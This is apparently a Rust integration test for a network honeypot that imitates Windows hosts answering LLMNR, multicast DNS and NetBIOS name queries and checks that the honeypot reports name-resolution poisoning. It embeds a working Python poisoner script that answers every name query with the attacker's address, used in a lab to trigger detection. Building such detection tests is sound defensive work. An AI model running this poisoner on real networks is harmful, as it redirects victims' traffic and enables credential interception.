//! A poisoner on the segment answers for every name, and is told of; names are asked for and answered as a service.

use crate::{fleet::have, native::Lab};
use serde_json::Value;
use std::{
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

const FLEET: &str = "[general]\nseed = names\ndomain = corp.example\n\
    [desk]\nip = 10.66.0.30\nservices = llmnr, http\ndistro = windows10\nhostname = DESKTOP-7T2KQ9A\n\
    [desk.llmnr]\nevery = 1\n\
    [quiet]\nip = 10.66.0.31\nservices = llmnr\ndistro = windows_server_2016\nhostname = SRV-QUIET01\n\
    [quiet.llmnr]\nasks = no\n";

/// Answers LLMNR, multicast DNS and NetBIOS for whatever is asked, with its own address.
const POISONER: &str = r#"
import selectors, socket, struct, sys
own = socket.inet_aton(sys.argv[1])
def group(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", port))
    if address:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(address) + own)
    return s
def dns(data):
    end = data.index(b"\0", 12) + 5
    question = data[12:end]
    return data[:2] + struct.pack(">HHHHH", 0x8400, 1, 1, 0, 0) + question + question + struct.pack(">IH", 30, 4) + own
def netbios(data):
    return data[:2] + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0) + data[12:50] + struct.pack(">IHH", 165, 6, 0) + own
sockets = {group("224.0.0.252", 5355): dns, group("224.0.0.251", 5353): dns, group(None, 137): netbios}
waiting = selectors.DefaultSelector()
for s in sockets: waiting.register(s, selectors.EVENT_READ)
while True:
    for key, _ in waiting.select():
        data, peer = key.fileobj.recvfrom(2000)
        if peer[0] == sys.argv[1] or len(data) < 17 or data[2] & 0xf8: continue
        key.fileobj.sendto(sockets[key.fileobj](data), peer)
"#;

/// Asks a group for a name; prints who answered.
const ASK: &str = r#"
import socket, struct, sys
name, group, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
s.sendto(struct.pack(">HHHHHH", 0x4c01, 0, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01", (group, port))
try:
    data, peer = s.recvfrom(2000)
    print(peer[0], socket.inet_ntoa(data[-4:]))
except socket.timeout:
    print("nobody")
"#;

struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = Command::new("kill").arg(self.0.id().to_string()).status();
        let _ = self.0.wait();
    }
}

fn events(lab: &Lab, kind: &str, wanted: impl Fn(&Value) -> bool) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let lines = lab.run(&["events", "--json", "--kind", kind]);
        let all = lines.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let found: Vec<Value> = all.filter(&wanted).collect();
        if !found.is_empty() {
            return found;
        }
        assert!(Instant::now() < deadline, "no {kind}: {lines}");
        std::thread::sleep(Duration::from_secs(1));
    }
}

#[test]
fn whoever_answers_for_names_that_nobody_has_is_told_of() {
    if !have("python3", "python3") || !have("nmblookup", "samba-common-bin") {
        return;
    }
    let Some(lab) = Lab::up() else { return };
    let file = lab.file("names.ini", FLEET);
    lab.run(&["deploy", "--lab", "--config", &file]);
    // A host answers for its own name, to everybody's group and alone, and for no other.
    let ask = lab.file("ask.py", ASK);
    for (name, place, port, answer) in [
        ("DESKTOP-7T2KQ9A", "224.0.0.252", "5355", "10.66.0.30 10.66.0.30"),
        ("desktop-7t2kq9a", "10.66.0.30", "5355", "10.66.0.30 10.66.0.30"),
        ("DESKTOP-7T2KQ9A.local", "224.0.0.251", "5353", "10.66.0.30 10.66.0.30"),
        ("srv-quiet01", "224.0.0.252", "5355", "10.66.0.31 10.66.0.31"),
        ("nobody-here", "224.0.0.252", "5355", "nobody"),
    ] {
        // A link takes a while to come up.
        let deadline = Instant::now() + Duration::from_secs(if answer == "nobody" { 0 } else { 60 });
        loop {
            let heard = lab.attacker(&["python3", &ask, name, place, port]);
            if heard.trim() == answer {
                break;
            }
            assert!(Instant::now() < deadline, "{name} at {place}: {heard}");
        }
    }
    let status = lab.attacker(&["nmblookup", "-A", "10.66.0.31"]);
    assert!(status.contains("SRV-QUIET01") && status.contains("<20>"), "{status}");
    let service = |event: &Value| event["service"] == "llmnr";
    let asked =
        events(&lab, "query", |event| service(event) && event["fields"]["query"] == "DESKTOP-7T2KQ9A A");
    assert_eq!(asked[0]["fields"]["dst_port"], "5355");

    let poisoner = lab.file("poisoner.py", POISONER);
    let own = lab
        .attacker(&["hostname", "-I"])
        .split_whitespace()
        .find(|ip| ip.starts_with("10.66."))
        .unwrap()
        .to_owned();
    let child = lab.background(&["lab", "exec", "--", "timeout", "300", "python3", &poisoner, &own]);
    let mut child = child;
    let _poisoner = Running(child.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());
    for technique in ["llmnr_poisoning", "netbios_poisoning", "mdns_poisoning"] {
        let found = events(&lab, "poisoner_detected", |event| event["fields"]["technique"] == technique);
        let fields = &found[0]["fields"];
        assert_eq!(
            (&fields["src_ip"], &fields["targets"]),
            (&Value::from(own.clone()), &Value::from(own.clone()))
        );
        assert!(service(&found[0]) && found[0]["decky"] == "desk", "{found:?}");
    }
    let all = lab.run(&["events", "--json", "--kind", "poisoner_detected"]);
    assert!(!all.contains("\"quiet\""), "who is told not to ask is not answered");
}
